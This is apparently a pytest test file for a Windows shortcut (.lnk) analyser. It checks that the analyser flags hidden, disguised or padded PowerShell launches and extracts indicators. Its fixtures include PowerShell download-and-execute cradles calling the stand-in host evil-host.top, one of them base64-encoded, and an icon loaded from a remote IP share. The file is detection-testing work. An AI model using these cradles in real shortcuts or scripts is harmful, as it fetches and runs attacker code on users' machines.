"""Shortcuts: what they start and how they hide it; every part optional, damage a finding."""

from __future__ import annotations

import base64
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svc.assistant.findings import Facts, Finding, Gap, ToolEvent, with_facts
from svc.assistant.skills.answer_parts import as_sections
from svc.assistant.skills.indicators.findings import IndicatorFacts
from svc.assistant.skills.shortcut import answer as section
from svc.assistant.skills.shortcut.findings import ShortcutFacts, ShortcutPart, ShortcutTrait, ShortcutVerdict
from svc.assistant.skills.shortcut.tool import inspect
from tests.support import office_files as made

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CRADLE = "-w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://evil-host.top/a')"


def run(data: bytes, name: str = "a.lnk") -> list[ToolEvent]:
    return list(inspect(io.BytesIO(data), source=name))


def found(data: bytes, name: str = "a.lnk") -> list[Finding[Facts]]:
    return [item for item in run(data, name) if isinstance(item, Finding)]


def traits(data: bytes, name: str = "a.lnk") -> set[str]:
    items = with_facts(found(data, name), ShortcutTrait)
    return {item.facts.trait for item in items if item.severity != "info"}


def verdict(data: bytes, name: str = "a.lnk") -> str:
    [finding] = with_facts(found(data, name), ShortcutVerdict)
    return finding.facts.verdict


def test_a_shortcut_to_a_program_is_unremarkable_and_shows_its_target():
    data = made.shortcut("C:\\Program Files\\Editor\\editor.exe")
    [facts] = with_facts(found(data), ShortcutFacts)
    assert facts.facts.target == "C:\\Program Files\\Editor\\editor.exe"
    assert facts.facts.created == "2024-01-17T21:20:00Z"
    assert verdict(data) == "ordinary"


TRAITS = {
    "a shell with arguments": (made.shortcut(POWERSHELL, CRADLE), "starts_shell"),
    "arguments out of sight": (made.shortcut(POWERSHELL, " " * 300 + CRADLE), "padded_arguments"),
    "long arguments": (made.shortcut(POWERSHELL, "-c " + "Get-Date; " * 40), "long_arguments"),
    "a document's icon": (made.shortcut(POWERSHELL, CRADLE, icon="C:\\Reader\\AcroRd32.exe"), "disguised"),
    "an icon on a share": (made.shortcut("C:\\a.exe", icon="\\\\45.9.148.3\\s\\a.ico"), "remote_icon"),
    "a minimised window": (made.shortcut(POWERSHELL, CRADLE, window=7), "hidden_window"),
    "a program behind a program": (
        made.shortcut("C:\\Windows\\explorer.exe", "/root,cmd.exe /c calc"),
        "arguments_start_program",
    ),
    "data behind it": (made.shortcut(POWERSHELL, CRADLE, extra=b"MZ" + bytes(400)), "appended"),
}


@pytest.mark.parametrize(("data", "trait"), TRAITS.values(), ids=TRAITS)
def test_the_behaviour_of_a_shortcut_is_a_trait(data: bytes, trait: str):
    assert trait in traits(data)


def test_a_shortcut_named_like_a_document_is_disguised():
    assert "disguised" in traits(made.shortcut(POWERSHELL, CRADLE), "invoice.pdf.lnk")


def test_a_disguised_download_cradle_is_malicious_and_shown_in_full():
    data = made.shortcut(POWERSHELL, CRADLE, icon="C:\\Reader\\AcroRd32.exe", window=7)
    items = found(data)
    assert verdict(data) == "malicious"
    assert CRADLE in as_sections(section.SECTION.folds(items))
    assert "http://evil-host.top/a" in {f.facts.value for f in with_facts(items, IndicatorFacts)}


def test_an_encoded_command_is_decoded_and_its_address_is_an_indicator():
    encoded = base64.b64encode("IEX (iwr http://evil-host.top/b.ps1)".encode("utf-16-le")).decode()
    items = found(made.shortcut(POWERSHELL, f"-w hidden -enc {encoded}"))
    assert "decoded code" in {f.facts.part for f in with_facts(items, ShortcutPart)}
    assert "http://evil-host.top/b.ps1" in {f.facts.value for f in with_facts(items, IndicatorFacts)}


def test_an_invalid_date_is_left_out():
    data = bytearray(made.shortcut(POWERSHELL))
    data[28:36] = (2_999_999_999_999_999_999).to_bytes(8, "little")
    [facts] = with_facts(found(bytes(data)), ShortcutFacts)
    assert facts.facts.created is None


def test_damaged_link_information_does_not_affect_the_arguments():
    data = bytearray(made.shortcut(POWERSHELL, CRADLE))
    data[80:104] = b"\xff" * 24  # everything but its size
    [facts] = with_facts(found(bytes(data)), ShortcutFacts)
    assert facts.facts.arguments == CRADLE


def test_a_file_of_another_kind_is_a_gap():
    items = run(b"[InternetShortcut]")
    assert not [item for item in items if isinstance(item, Finding)]
    assert any(isinstance(item, Gap) for item in items)


def test_a_truncated_shortcut_still_gets_a_verdict():
    data = made.shortcut(POWERSHELL, CRADLE, icon="a.ico")
    for end in range(20, len(data), 7):
        assert verdict(data[:end])


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(st.integers(20, 400), st.integers(0, 255)), max_size=10), st.binary(max_size=200))
def test_changed_bytes_raise_no_exception(changes: list[tuple[int, int]], more: bytes):
    data = bytearray(made.shortcut(POWERSHELL, CRADLE, icon="a.ico", extra=more))
    for position, value in changes:
        data[position % len(data) if position % len(data) > 20 else 20] = value
    as_sections(section.SECTION.folds(found(bytes(data))))
